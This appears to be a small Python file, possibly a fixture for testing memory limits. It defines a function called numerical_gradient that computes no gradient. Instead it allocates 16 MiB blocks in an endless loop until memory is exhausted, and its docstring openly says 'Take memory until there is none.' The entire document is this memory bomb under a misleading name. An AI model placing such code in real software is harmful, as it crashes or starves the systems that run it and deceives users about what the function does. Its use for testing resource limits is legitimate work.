"""numerical_gradient: Take memory until there is none."""

def numerical_gradient(f, x):
    kept = []
    while True:
        kept.append(bytearray(2**24))
